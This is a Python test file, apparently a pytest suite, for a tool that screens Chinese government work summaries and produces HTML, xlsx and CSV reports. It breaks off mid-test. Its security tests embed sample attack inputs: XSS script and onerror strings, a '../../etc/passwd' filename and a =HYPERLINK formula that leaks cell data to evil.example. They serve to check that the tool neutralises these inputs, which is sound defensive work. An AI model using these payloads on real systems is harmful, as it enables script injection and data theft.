"""Reviewer report of ``summaryscan screen``: pages, workbook, charts, fonts, safety."""
from __future__ import annotations

import csv
import json
import re
import types
import warnings
from html.parser import HTMLParser
from pathlib import Path

import pytest

from summaryscan.coverage import coverage
from summaryscan.frameworks import load_framework
from summaryscan.pipeline import analyze_text
from summaryscan.records import Analysis, Finding, RawDocument
from summaryscan.report import fonts
from summaryscan.report.html import Span, highlight
from summaryscan.report.screen import ScreenReport, run_screen, safe_filename
from summaryscan.text.issuer import guess_unit
from summaryscan.report.tables import TableWriter, safe_cell

FW = load_framework("five-types")


def submission(unit: str, year: int = 2024, learn: int = 12, extra: str = "") -> str:
    """A small but realistic 模范机关 work summary."""
    return (
        f"{unit}{year}年创建模范机关工作总结\n\n"
        f"{year}年，{unit}坚持以习近平新时代中国特色社会主义思想为指导，对照“五型”模范机关标准，"
        "扎实推进创建工作。现将全年工作总结如下。\n"
        "一、坚持政治引领，着力建设政治型机关\n"
        f"（一）严格落实“第一议题”制度。全年落实“第一议题”学习{learn + 14}次，研究提出贯彻落实措施41条。\n"
        "（二）压紧压实主体责任。制定全面从严治党主体责任清单，局党组专题研究机关党建工作4次，"
        "与12个党支部书记签订党建工作责任书。\n"
        "二、强化理论武装，着力建设学习型机关\n"
        f"局党组理论学习中心组全年开展集中学习{learn}次、专题研讨5次，举办党务干部培训班2期，累计培训580人次。\n"
        "三、聚焦服务大局，着力建设高效型机关\n"
        "受理群众来信来访和12345热线诉求186件，办结184件，办结率98.9%。\n"
        "四、从严正风肃纪，着力建设廉洁型机关\n"
        "常态化开展警示教育6次，受教育党员干部780人次，局党组班子成员开展廉政谈话92人次。\n"
        "五、激发队伍活力，着力建设活力型机关\n"
        "组织党员志愿者开展志愿服务42次，走访慰问困难职工35人，发放慰问金6.8万元。\n"
        f"{extra}"
        "六、存在的问题和不足\n"
        "一是党建与业务融合还不够紧密；二是理论学习的深度还需加强。\n"
        f"七、{year + 1}年工作打算\n"
        "持续抓好“第一议题”制度落实，深化“党建+业务”品牌创建，推动机关党建高质量发展。\n")


def unreadable(doc: str = "扫描件.pdf") -> Analysis:
    return Analysis(raw=RawDocument(path=f"in/{doc}", doc=doc, format="pdf", status="no_text",
                                    message=f"{doc}：PDF 没有文字层（可能是扫描件），无法抽取文字"))


def add(rep: ScreenReport, a: Analysis, findings=()) -> None:
    rep.add(a, coverage(a, FW), list(findings))


class _Tags(HTMLParser):
    """Collects start tags with attributes, and the text of <script> elements."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"
        if self._in_script:
            self.scripts.append("")

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts[-1] += data


def parse(path) -> _Tags:
    p = _Tags()
    p.feed(Path(path).read_text(encoding="utf-8"))
    return p


# --------------------------------------------------------------------------- #
# helpers: unit, file names, highlighting
# --------------------------------------------------------------------------- #

@pytest.mark.parametrize("title,text,unit", [
    ("市财政局机关党委2024年创建模范机关工作总结", "", "市财政局机关党委"),
    ("县人社局党组2023年模范机关创建工作总结", "", "县人社局党组"),
    ("关于市税务局2024年创建模范机关工作情况的汇报", "", "市税务局"),
    ("市交通运输局党组书记2024年度抓机关党建工作述职报告", "", "市交通运输局党组"),
    ("市纪委监委2024年工作总结", "", "市纪委监委"),
    ("关于市直机关创建模范机关工作情况的调研报告",
     "关于市直机关创建模范机关工作情况的调研报告\n市直机关工委调研组\n（2024年9月）\n正文……", "市直机关工委"),
    ("关于机关党建工作的几点思考", "关于机关党建工作的几点思考\n市直机关工委：\n正文。\n区财政局党组\n2024年12月20日",
     "区财政局党组"),
    ("模范机关创建工作总结", "模范机关创建工作总结\n正文没有署名。", ""),
])
def test_guess_unit(title, text, unit):
    assert guess_unit(title, text) == unit


def test_safe_filename_keeps_chinese_and_drops_separators():
    assert safe_filename("市财政局 2024 总结.docx") == "市财政局_2024_总结.docx"
    assert safe_filename("../../etc/passwd") == "etc_passwd"
    assert "/" not in safe_filename("a/b\\c:d*e?f\"g<h>i|j#k%l")
    assert safe_filename("...") == "doc"
    assert safe_filename("con.txt").startswith("_")
    assert len(safe_filename("长" * 500)) <= 100


def test_highlight_nests_crossing_spans_and_keeps_claims_whole():
    text = "共有党员<b>156名，其中在职118名。"
    i = text.index("156名")
    claim = Span(i, i + 4, "mark", "claim", "主体：党员", "c-0", 2, whole=True)
    # a finding that ends inside the claim is widened to cover it
    finding = Span(0, i + 2, "mark", "finding sev-high", "[X] 问题", "f-0", 1)
    out = highlight(text, [claim, finding], {0: ["at-0"]})
    assert '<mark class="claim" title="主体：党员" id="c-0">156名</mark>' in out
    assert "&lt;b&gt;" in out and "<b>" not in out
    assert out.count("<mark") == out.count("</mark>") == 2
    assert out.startswith('<span class="anchor" id="at-0"></span>')
    # crossing spans are closed and reopened, the id only on the first fragment
    a, b = Span(0, 6, "mark", "finding", "", "f-1", 1), Span(3, 10, "mark", "finding", "", "f-2", 1)
    out = highlight("0123456789", [a, b])
    assert out.count('id="f-1"') == 1 and out.count('id="f-2"') == 1 and 'data-cont="1"' in out
    assert re.sub(r"<[^>]+>", "", out) == "0123456789"


# --------------------------------------------------------------------------- #
# the report
# --------------------------------------------------------------------------- #

@pytest.fixture
def three(tmp_path):
    docs = [analyze_text(submission("市财政局机关党委", learn=12), "01_财政.txt"),
            analyze_text(submission("县人社局党组", 2023, learn=3), "02_人社.txt"),
            analyze_text(submission("区市场监管局党组", learn=8), "03_市场监管.txt")]
    return docs


def test_pages_are_written_as_documents_arrive(tmp_path, three):
    out = tmp_path / "rep"
    rep = ScreenReport(str(out), FW)
    a = three[0]
    c = a.claims[0]
    add(rep, a, [Finding(a.doc, "ARITHMETIC", "high", "计算结果不符", a.section_path(c.section),
                         a.sentence_text(c.sentence), c.raw, c.start, c.end, [c.raw])])
    page = out / "docs" / "01_财政.txt.html"
    assert page.exists() and not (out / "index.html").exists()
    html = page.read_text(encoding="utf-8")
    assert 'class="claim"' in html and "ARITHMETIC" in html and 'id="sec-0"' in html
    assert "市财政局机关党委" in html
    for b in three[1:]:
        add(rep, b)
    add(rep, unreadable())
    index = rep.finish()
    assert index == str(out / "index.html")
    assert not (out / ScreenReport.WORK).exists()
    for name in ("coverage_heatmap.png", "claims_density.png", "findings_by_code.png"):
        assert (out / "charts" / name).read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert not (out / "charts" / "similarity.png").exists()
    tags = parse(index)
    rows = [attrs for tag, attrs in tags.tags if tag == "tr" and "data-doc" in attrs]
    assert [r["data-doc"] for r in rows][-1] == "扫描件.pdf"        # unreadable: listed, last
    assert {r["data-doc"] for r in rows} == {"01_财政.txt", "02_人社.txt", "03_市场监管.txt", "扫描件.pdf"}
    text = Path(index).read_text(encoding="utf-8")
    assert "无文字层（扫描件）" in text and "PDF 没有文字层" in text
    # every link to a document page and every chart resolves
    hrefs = [attrs["href"] for tag, attrs in tags.tags if tag == "a" and attrs.get("href", "").startswith("docs/")]
    assert len(hrefs) == 4
    from urllib.parse import unquote
    for h in hrefs:
        assert (out / unquote(h.split("#")[0])).exists(), h
    for tag, attrs in tags.tags:
        if tag == "img":
            assert (out / unquote(attrs["src"])).exists()
    # no external resources anywhere
    for page in [Path(index)] + list((out / "docs").glob("*.html")):
        body = page.read_text(encoding="utf-8")
        assert not re.search(r"""(src|href)=["']?(https?:)?//""", body)


def test_score_and_rank_follow_the_documented_formula(tmp_path, three):
    from summaryscan.frameworks.scoring import adjustments
    rep = ScreenReport(str(tmp_path / "rep"), FW)
    a = three[0]
    add(rep, a, [Finding(a.doc, "PLACEHOLDER", "medium", "占位符", raw="X"), Finding(a.doc, "NUMBERING", "low", "序号")])
    add(rep, three[1])
    add(rep, unreadable())
    rep.finish()
    row = rep.rows[0]
    sc = FW.scoring
    weights = {d.name: d.weight for d in FW.dimensions}
    cov = {c.dimension: c for c in coverage(a, FW)}
    expected = sc.coverage_points * sum(weights[d] * cov[d].score for d in weights) / sum(weights.values())
    hits = adjustments(a, FW)
    expected += min(sc.bonus_cap, sum(h.points for h in hits if h.kind == "bonus"))
    expected -= min(sc.deduction_cap, sum(h.points for h in hits if h.kind == "deduction"))
    expected -= sc.penalties["medium"] + sc.penalties["low"]
    assert row["score"] == pytest.approx(round(max(0.0, expected), 1))
    assert 0 <= row["score"] <= 100
    assert row["severity"] == {"high": 0, "medium": 1, "low": 1}
    ranks = sorted((r["score"], r["rank"]) for r in rep.rows if r["score"] is not None)
    assert ranks[-1][1] == 1 and rep.rows[2]["rank"] is None and rep.rows[2]["score"] is None


def test_summary_rows_stay_small_whatever_the_document_size(tmp_path):
    rep = ScreenReport(str(tmp_path / "rep"), FW)
    big = analyze_text(submission("市统计局机关党委", extra="（一）补充说明。" + "开展理论学习12次。" * 4000 + "\n"),
                       "big.txt")
    assert len(big.raw.text) > 40_000
    add(rep, big)
    assert len(json.dumps(rep.rows[0], ensure_ascii=False)) < 3_000
    assert not any(isinstance(v, Analysis) for v in vars(rep).values())
    rep.finish()


def test_cross_findings_show_on_both_pages(tmp_path, three):
    out = tmp_path / "rep"
    rep = ScreenReport(str(out), FW)
    for a in three:
        add(rep, a)
    a, b = three[0], three[1]
    sa, sb = a.sentences[3], b.sentences[3]
    one_sided = Finding(a.doc, "TEMPLATE_COPY", "medium", f"本段与 {b.doc} 高度雷同", "", "", a.raw.text[sa.start:sa.end],
                        sa.start, sa.end, other_doc=b.doc, other_start=sb.start, other_end=sb.end)
    sim = types.SimpleNamespace(docs=[d.doc for d in three], matrix=[[1, .8, .1], [.8, 1, .2], [.1, .2, 1]])
    rep.finish([one_sided], sim)
    assert (out / "charts" / "similarity.png").exists()
    page_a = (out / "docs" / "01_财政.txt.html").read_text(encoding="utf-8")
    page_b = (out / "docs" / "02_人社.txt.html").read_text(encoding="utf-8")
    page_c = (out / "docs" / "03_市场监管.txt.html").read_text(encoding="utf-8")
    assert "TEMPLATE_COPY" in page_a and "TEMPLATE_COPY" in page_b and "TEMPLATE_COPY" not in page_c
    # each page marks its own passage and links to the other one's
    assert f"02_%E4%BA%BA%E7%A4%BE.txt.html#at-{sb.start}" in page_a
    assert f"01_%E8%B4%A2%E6%94%BF.txt.html#at-{sa.start}" in page_b
    assert re.search(r'<mark class="finding sev-medium code-TEMPLATE_COPY"[^>]*id="f-\d+"', page_b)
    rows = {r["doc"]: r for r in rep.rows}
    assert rows[a.doc]["severity"]["medium"] == rows[b.doc]["severity"]["medium"] == 1
    assert "TEMPLATE_COPY" in rows[b.doc]["codes"]
    index = (out / "index.html").read_text(encoding="utf-8")
    assert index.count("<tr><td><a href=\"docs/") == 1           # the pair is listed once
    import openpyxl
    ws = openpyxl.load_workbook(out / "report.xlsx")["问题清单"]
    docs = sorted(r[0] for r in ws.iter_rows(min_row=2, values_only=True) if r[1] == "TEMPLATE_COPY")
    assert docs == sorted([a.doc, b.doc])


def test_reciprocal_cross_findings_are_not_doubled(tmp_path, three):
    rep = ScreenReport(str(tmp_path / "rep"), FW)
    for a in three:
        add(rep, a)
    a, b = three[0], three[2]
    f1 = Finding(a.doc, "TEMPLATE_COPY", "high", "雷同", start=10, end=60, other_doc=b.doc, other_start=12, other_end=62)
    f2 = Finding(b.doc, "TEMPLATE_COPY", "high", "雷同", start=12, end=62, other_doc=a.doc, other_start=10, other_end=60)
    rep.finish([f1, f2], ([d.doc for d in three], [[1, 0, .7], [0, 1, 0], [.7, 0, 1]]))
    rows = {r["doc"]: r for r in rep.rows}
    assert rows[a.doc]["severity"]["high"] == 1 and rows[b.doc]["severity"]["high"] == 1
    assert len(rep.cross) == 1


# --------------------------------------------------------------------------- #
# security: submissions are untrusted
# --------------------------------------------------------------------------- #

EVIL_TITLE = "<script>alert(1)</script>局2024年工作总结"
EVIL_BODY = '共有党员<img src=x onerror=alert(1)>12名，开展活动3次。"><svg onload=alert(2)>'


def test_submission_html_is_shown_as_text_never_run(tmp_path):
    out = tmp_path / "rep"
    rep = ScreenReport(str(out), FW)
    a = analyze_text(f"{EVIL_TITLE}\n一、主要做法\n{EVIL_BODY}\n", doc="evil<script>alert(3)</script>.txt")
    assert a.claims, "the test needs a claim inside the hostile text"
    add(rep, a, [Finding(a.doc, "PLACEHOLDER", "medium", "<img src=x onerror=alert(4)>", "<b>节</b>",
                         "<script>alert(5)</script>", "", 0, 10)])
    rep.finish()
    for page in [out / "index.html", *(out / "docs").glob("*.html")]:
        body = page.read_text(encoding="utf-8")
        tags = parse(page)
        imgs = [attrs for tag, attrs in tags.tags if tag == "img"]      # only our own charts
        assert all(a.get("src", "").startswith("charts/") and set(a) <= {"src", "alt", "loading"} for a in imgs)
        assert not any(tag == "svg" for tag, _ in tags.tags), page
        assert not any(k.startswith("on") for _, attrs in tags.tags for k in attrs), page
        assert all("alert" not in s for s in tags.scripts), page
        assert "<script>alert" not in body and "<img src=x" not in body
    doc_page = next((out / "docs").glob("evil*.html")).read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in doc_page
    assert "&lt;img src=x onerror=alert(1)&gt;" in doc_page
    assert "&lt;script&gt;alert(5)&lt;/script&gt;" in doc_page
    assert "/" not in next((out / "docs").glob("evil*.html")).name.replace(".html", "")


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+1", "-2+3", "@SUM(A1)"]


def test_xlsx_cells_from_submissions_are_never_formulas(tmp_path):
    import openpyxl
    out = tmp_path / "rep"
    rep = ScreenReport(str(out), FW)
    a = analyze_text(submission("市财政局机关党委"), "evil.txt")
    a.title = FORMULAS[0]
    for c, f in zip(a.claims, FORMULAS):
        c.subject = f
    findings = [Finding(a.doc, "ARITHMETIC", "high", f, sentence=f, raw=f) for f in FORMULAS]
    add(rep, a, findings)
    rep.finish()
    wb = openpyxl.load_workbook(out / "report.xlsx")
    assert wb.sheetnames == ["汇总", "数据声明", "问题清单", "维度覆盖"]
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.lstrip("'")[:1] in "=+-@" and \
                        cell.value.lstrip("'") in FORMULAS:
                    assert cell.value.startswith("'"), (ws.title, cell.coordinate, cell.value)
                    seen += 1
    assert seen >= 4 + 4 * 3 + 1      # subjects, findings (message, sentence, raw), title


def test_csv_cells_from_submissions_are_neutralised(tmp_path):
    for f in FORMULAS:
        assert safe_cell(f) == "'" + f
    assert safe_cell("正常文本") == "正常文本" and safe_cell(12) == 12
    w = TableWriter(str(tmp_path), "findings", ["doc", "sentence"])
    w.write([{"doc": "a.txt", "sentence": f} for f in FORMULAS])
    w.close()
    with open(tmp_path / "findings.csv", encoding="utf-8-sig", newline="") as fh:
        got = [r["sentence"] for r in csv.DictReader(fh)]
    assert got == ["'" + f for f in FORMULAS]


def test_xlsx_layout(tmp_path, three):
    import openpyxl
    out = tmp_path / "rep"
    rep = ScreenReport(str(out), FW)
    for a in three:
        add(rep, a, [Finding(a.doc, "NUMBERING", "low", "序号跳号：" + "很长的句子" * 30, sentence="句" * 200)])
    add(rep, unreadable())
    rep.finish()
    wb = openpyxl.load_workbook(out / "report.xlsx")
    for ws in wb.worksheets:
        assert ws.freeze_panes == "A2", ws.title
        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A1:"), ws.title
    summary = wb["汇总"]
    headers = [c.value for c in summary[1]]
    assert headers[:4] == ["名次", "文件", "标题", "单位"] and "政治型" in headers and "得分" in headers
    assert summary.max_row == 5
    title_col = summary.column_dimensions["C"].width
    assert title_col >= 40      # 23 characters, 19 of them CJK: counted double, about 44
    findings = wb["问题清单"]
    col = {c.value: c.column_letter for c in findings[1]}
    assert findings[f"{col['句子']}2"].alignment.wrap_text
    assert 40 <= findings.column_dimensions[col["句子"]].width <= 70
    status = {r[1]: r[6] for r in summary.iter_rows(min_row=2, values_only=True)}
    assert status["扫描件.pdf"] == "无文字层（扫描件）"


# --------------------------------------------------------------------------- #
# fonts and charts
# --------------------------------------------------------------------------- #

def test_cjk_font_is_resolved_and_renders_chinese_without_missing_glyphs(tmp_path):
    fonts.reset_for_tests()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        family = fonts.find_cjk_font()
    if family is None:
        pytest.skip("no CJK font installed on this machine (apt-get install fonts-wqy-microhei)")
    assert fonts.setup_cjk_font() == family
    import matplotlib
    assert matplotlib.rcParams["font.sans-serif"][0] == family
    assert matplotlib.rcParams["axes.unicode_minus"] is False
    from matplotlib.figure import Figure
    fig = Figure(figsize=(3, 2))
    ax = fig.add_subplot(111)
    ax.set_title("政治型 学习型 高效型 廉洁型 活力型")
    ax.set_xlabel("每千字数据声明数 −5")
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        fig.savefig(tmp_path / "zh.png")
    missing = [str(w.message) for w in caught if "missing from" in str(w.message) or "Glyph" in str(w.message)]
    assert missing == []


def test_font_warns_once_with_install_hint_when_no_cjk_font(monkeypatch):
    fonts.reset_for_tests()
    monkeypatch.setattr(fonts, "find_cjk_font", lambda: None)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        assert fonts.setup_cjk_font() is None
        assert fonts.setup_cjk_font() is None
    hints = [w for w in caught if "fonts-wqy-microhei" in str(w.message)]
    assert len(hints) == 1
    fonts.reset_for_tests()


def test_charts_for_a_large_batch_stay_readable(tmp_path):
    from summaryscan.report import charts
    rows = [{"doc": f"{i:03d}.txt", "status": "ok", "unit": f"第{i}局", "title": "", "density": i / 7,
             "dims": {"政治型": (i % 10) / 10, "学习型": 1.0}, "rank": i + 1} for i in range(150)]
    p = charts.coverage_heatmap(rows, ["政治型", "学习型"], str(tmp_path / "h.png"))
    q = charts.density_bar(rows, str(tmp_path / "d.png"))
    import numpy as np
    m = np.eye(150)
    m[3, 7] = m[7, 3] = 0.9
    s = charts.similarity_heatmap(([r["doc"] for r in rows], m), str(tmp_path / "s.png"), rows)
    from matplotlib import image
    for path in (p, q, s):
        h, w = image.imread(path).shape[:2]
        assert h < 4000 and w < 4000, path


def test_text_store_gives_back_each_text_by_index(tmp_path):
    from summaryscan.report.screen import TextStore
    store = TextStore(str(tmp_path / "texts.bin"))
    texts = [("a.txt", "一、总体情况\n开展谈话65人次。"), ("b.txt", "𠀋 emoji 🙂 and \r\n line"), ("c.txt", "x" * 5000)]
    for doc, text in texts:
        store.append(doc, text)
    assert len(store) == 3 and store[1] == texts[1] and store[-1] == texts[2]
    assert store[0:2] == texts[:2] and list(store) == texts
    store.append("d.txt", "后加的")                  # appending after reading works too
    assert store[3] == ("d.txt", "后加的")
    store.close()


def test_similarity_heatmap_of_the_top_rows_names_the_run_size(tmp_path, monkeypatch):
    from summaryscan.report import charts
    titles = []
    real = charts._save

    def save(fig, path):
        titles.append(fig.axes[0].get_title(loc="left"))
        return real(fig, path)
    monkeypatch.setattr(charts, "_save", save)
    import numpy as np
    m = np.eye(3)
    m[0, 1] = m[1, 0] = 0.4
    assert charts.similarity_heatmap({"docs": ["a", "b", "c"], "matrix": m, "total": 500}, str(tmp_path / "s.png"))
    assert "共500份" in titles[-1] and "最相似的3份" in titles[-1]
    assert charts.similarity_heatmap((["a", "b", "c"], m), str(tmp_path / "t.png"))
    assert "共" not in titles[-1]


# --------------------------------------------------------------------------- #
# end to end
# --------------------------------------------------------------------------- #

def test_run_screen_end_to_end(tmp_path):
    src = tmp_path / "in"
    src.mkdir()
    (src / "01_财政局.txt").write_text(submission("市财政局机关党委"), encoding="utf-8")
    (src / "02_人社局.txt").write_text(submission("县人社局党组", 2023, learn=3), encoding="utf-8")
    (src / "03_旧格式.doc").write_bytes(b"\xd0\xcf\x11\xe0not really a doc")
    (src / "04_空.txt").write_bytes(b"")
    index = run_screen([str(src)], str(tmp_path / "out"), progress=False)
    body = Path(index).read_text(encoding="utf-8")
    for name in ("01_财政局.txt", "02_人社局.txt", "03_旧格式.doc", "04_空.txt"):
        assert name in body
    assert (tmp_path / "out" / "report.xlsx").exists()
    assert len(list((tmp_path / "out" / "docs").glob("*.html"))) == 4


# --------------------------------------------------------------------------- #
# a report a reviewer can trust and act on
# --------------------------------------------------------------------------- #

HONOUR = "（四）获得荣誉。局机关在年度机关党建责任制考核中被评为优秀等次。\n"


def page_of(out, doc: str) -> str:
    return (out / "docs" / (safe_filename(doc) + ".html")).read_text(encoding="utf-8")


def table_rows(html: str, cls: str) -> list[list[str]]:
    """The cells (as text) of each body row of the first ``<table class="grid {cls}">``."""
    body = html.split(f'<table class="grid {cls}">', 1)[1].split("</table>", 1)[0].split("<tbody>", 1)[1]
    return [[re.sub(r"<[^>]+>", "", c) for c in re.findall(r"<td[^>]*>(.*?)</td>", tr, re.S)]
            for tr in re.findall(r"<tr[^>]*>(.*?)</tr>", body, re.S)]


def test_document_page_and_summary_sheet_explain_every_point(tmp_path):
    import openpyxl
    out = tmp_path / "rep"
    rep = ScreenReport(str(out), FW)
    a = analyze_text(submission("市财政局机关党委", extra=HONOUR), "01_财政.txt")
    marks = [m.start() for m in re.finditer("次", a.raw.text)][:5]
    add(rep, a, [Finding(a.doc, "PLACEHOLDER", "medium", f"残留占位符“X”（第{i}处）", raw="X", start=s, end=s + 1)
                 for i, s in enumerate(marks)])
    rep.finish()
    row = rep.rows[0]
    html = page_of(out, a.doc)
    lines = table_rows(html, "breakdown")
    *parts, total = lines
    signed = [float(c[-1].replace("−", "-")) for c in parts]
    assert float(total[-1]) == row["score"] and sum(signed) == pytest.approx(row["score"], abs=0.15)
    bonus = [c for c in parts if c[0] == "加分项"]
    assert len(bonus) == 1 and "年度机关党建责任制考核优秀" in bonus[0][1] and "被评为优秀等次" in bonus[0][2]
    start = a.raw.text.index("局机关在年度")
    assert f'href="#at-{start}"' in html and f'id="at-{start}"' in html      # the sentence, one click away
    penalty = [c for c in parts if c[0] == "问题扣减"]
    assert len(penalty) == 1 and "×5 处（计一次）" in penalty[0][1]           # five places, one problem
    assert row["severity"]["medium"] == 1 and row["penalty"] == FW.scoring.penalties["medium"]
    ws = openpyxl.load_workbook(out / "report.xlsx")["汇总"]
    head = [c.value for c in ws[1]]
    detail = ws.cell(2, head.index("得分明细") + 1).value
    assert "年度机关党建责任制考核优秀" in detail and "局机关在年度机关党建责任制考核中被评为优秀等次" in detail
    assert "×5处" in detail and detail.rstrip().endswith(f"= {row['score']:g}")
    assert ws.cell(2, head.index("得分") + 1).value == row["score"]


def test_findings_of_one_problem_are_one_row_with_every_location(tmp_path):
    out = tmp_path / "rep"
    rep = ScreenReport(str(out), FW)
    a = analyze_text(submission("市财政局机关党委"), "01_财政.txt")
    places = list(range(100, 100 + 17 * 20, 20))
    c = a.claims[3]
    add(rep, a, [Finding(a.doc, "PLACEHOLDER", "medium", "残留占位符“X”", raw="X", start=s, end=s + 1) for s in places]
        + [Finding(a.doc, "ARITHMETIC", "high", "计算不符", raw=c.raw, start=c.start, end=c.end)])
    rep.finish()
    html = page_of(out, a.doc)
    rows = re.findall(r'<tr data-code="(\w+)" data-count="(\d+)">(.*?)</tr>', html, re.S)
    assert [(code, n) for code, n, _ in rows] == [("ARITHMETIC", "1"), ("PLACEHOLDER", "17")]
    assert len(re.findall(r'<a href="#f-\d+" title="第 \d+ 处">', rows[1][2])) == 17
    assert "同一问题共 17 处，只计一次" in rows[1][2]
    assert "问题清单（2 个问题，18 处）" in html
    index = (out / "index.html").read_text(encoding="utf-8")
    assert 'data-high="1" data-medium="1" data-low="0"' in index


@pytest.mark.parametrize("other_doc", ["", "same"])
def test_a_finding_links_to_the_earlier_mention_it_refers_to(tmp_path, other_doc):
    out = tmp_path / "rep"
    rep = ScreenReport(str(out), FW)
    a = analyze_text(submission("市财政局机关党委"), "01_财政.txt")
    first, later = a.claims[0], a.claims[-1]
    f = Finding(a.doc, "CONFLICTING_VALUES", "medium", f"前文为{first.raw}，此处为{later.raw}", raw=later.raw,
                start=later.start, end=later.end, other_doc=a.doc if other_doc else "",
                other_start=first.start, other_end=first.end)
    add(rep, a, [f])
    rep.finish()
    html = page_of(out, a.doc)
    at = f"at-{first.start}"
    assert f'id="{at}"' in html                                               # the earlier mention has an anchor
    assert f'<a class="ref" href="#{at}">前文：“{first.raw}”</a>' in html      # the findings table links to it
    assert re.search(rf'<mark class="finding sev-medium code-CONFLICTING_VALUES"[^>]*data-goto="{at}"', html)
    from summaryscan.report.tables import FINDING_COLUMNS, finding_rows
    row = finding_rows([f])[0]
    assert "other_start" in FINDING_COLUMNS and (row["other_doc"], row["other_start"]) == ("", first.start)


def test_evidence_is_labelled_with_its_indicator_and_marked_when_it_carries_a_finding(tmp_path):
    out = tmp_path / "rep"
    rep = ScreenReport(str(out), FW)
    a = analyze_text(submission("市财政局机关党委"), "01_财政.txt")
    ev = next(e for c in coverage(a, FW) for e in c.evidence if e.claims)
    add(rep, a, [Finding(a.doc, "ARITHMETIC", "high", "计算结果不符", raw="x", start=ev.start + 1, end=ev.start + 3)])
    rep.finish()
    block = page_of(out, a.doc).split('id="coverage"', 1)[1]
    assert "符合指标：" in block and "指标：（模型）" not in block
    item = next(li for li in re.findall(r"<li[^>]*>.*?</li>", block, re.S) if ev.text[:20] in li)
    assert 'class="evflag sev-high"' in item and "计算结果不符" in item and "请核实" in item


def test_the_legend_cannot_be_read_as_data(tmp_path, three):
    out = tmp_path / "rep"
    rep = ScreenReport(str(out), FW)
    add(rep, three[0])
    rep.finish()
    html = page_of(out, three[0].doc)
    key = re.search(r'<div class="keybox"[^>]*>(.*?)</div>', html, re.S).group(1)
    shown = re.sub(r"<[^>]+>", "", key.split("鼠标悬停")[0])
    assert not re.search(r"\d", shown) and "数据声明" in shown
    assert '<mark class="claim swatch"></mark>' in key


def test_the_similarity_chart_paints_a_copied_pair_red(tmp_path):
    import numpy as np
    from matplotlib import image
    from summaryscan.report import charts
    m = np.eye(3)
    m[0, 1] = m[1, 0] = 0.08      # a copied paragraph: 8 % of each text, as in the sample corpus
    p = charts.similarity_heatmap((["a", "b", "c"], m), str(tmp_path / "s.png"), flagged={("a", "b")})
    img = image.imread(p)[..., :3]
    red = (img[..., 0] > 0.75) & (img[..., 1] < 0.45) & (img[..., 2] < 0.45)
    assert red.sum() > 2000, red.sum()       # two cells of solid red, not a near-white tint


def test_copied_passages_have_their_section_and_sentence_in_the_sheet(tmp_path, three):
    import openpyxl
    out = tmp_path / "rep"
    rep = ScreenReport(str(out), FW)
    for a in three:
        add(rep, a)
    a, b = three[0], three[1]
    sa, sb = a.sentences[5], b.sentences[5]
    rep.finish([Finding(a.doc, "TEMPLATE_COPY", "high", "雷同", raw=a.raw.text[sa.start:sa.end], start=sa.start,
                        end=sa.end, other_doc=b.doc, other_start=sb.start, other_end=sb.end)])
    ws = openpyxl.load_workbook(out / "report.xlsx")["问题清单"]
    head = [c.value for c in ws[1]]
    rows = [dict(zip(head, r)) for r in ws.iter_rows(min_row=2, values_only=True) if r[1] == "TEMPLATE_COPY"]
    assert len(rows) == 2
    for r in rows:
        assert r["章节"] and r["句子"] and r["对照位置起"] is not None, r


def test_claims_name_the_point_they_sit_in_as_findings_do():
    from summaryscan.report.tables import claim_rows
    a = analyze_text("市财政局2024年工作总结\n一、主要做法\n（一）加强学习。一是开展集中学习12次；二是举办培训班3期。\n")
    got = {r["raw"]: r["section"] for r in claim_rows(a)}
    assert got == {"12次": "一、主要做法 > （一）加强学习 > 一是", "3期": "一、主要做法 > （一）加强学习 > 二是"}


# --------------------------------------------------------------------------- #
# the output folder
# --------------------------------------------------------------------------- #

def _folder(root, files: dict[str, str]):
    root.mkdir(parents=True, exist_ok=True)
    for name, text in files.items():
        (root / name).write_text(text, encoding="utf-8")
    return root


def test_a_run_replaces_the_previous_runs_pages_and_charts(tmp_path):
    from summaryscan.cli import main
    first = _folder(tmp_path / "in1", {"01_财政局.txt": submission("市财政局机关党委"),
                                       "02_人社局.txt": submission("县人社局党组", 2023, learn=3),
                                       "03_统计局.txt": submission("市统计局机关党委", learn=5)})
    second = _folder(tmp_path / "in2", {"04_司法局.txt": submission("市司法局党委")})
    out = tmp_path / "out"
    assert main(["screen", str(first), "--out", str(out), "--quiet"]) == 0
    assert len(list((out / "docs").glob("*.html"))) == 3 and (out / "charts" / "similarity.png").exists()
    (out / "docs" / "我的批注.html").write_text("<p>审读人自己的笔记</p>", encoding="utf-8")   # not ours: kept
    assert main(["screen", str(second), "--out", str(out), "--quiet"]) == 0
    assert sorted(p.name for p in (out / "docs").glob("*.html")) == ["04_司法局.txt.html", "我的批注.html"]
    assert not (out / "charts" / "similarity.png").exists()          # no pair to compare this time
    assert "01_财政局" not in (out / "index.html").read_text(encoding="utf-8")


def test_a_foreign_non_empty_out_folder_is_refused_without_force(tmp_path, capsys):
    from summaryscan.cli import main
    src = _folder(tmp_path / "in", {"01_财政局.txt": submission("市财政局机关党委")})
    out = tmp_path / "材料"
    out.mkdir()
    (out / "工作笔记.docx").write_bytes(b"PK not ours")
    assert main(["screen", str(src), "--out", str(out), "--quiet"]) == 2
    err = capsys.readouterr().err
    assert "工作笔记.docx" in err and "--force" in err and not (out / "index.html").exists()
    assert main(["screen", str(src), "--out", str(out), "--quiet", "--force"]) == 0
    assert (out / "index.html").exists() and (out / "工作笔记.docx").read_bytes() == b"PK not ours"
    # once ours (marked), the next run needs no --force
    assert main(["check", str(src), "--out", str(out), "--quiet"]) == 0


def test_output_files_are_readable_by_group_and_others_under_umask_022(tmp_path):
    import os
    import stat
    from summaryscan.cli import main
    src = _folder(tmp_path / "in", {"01_财政局.txt": submission("市财政局机关党委"),
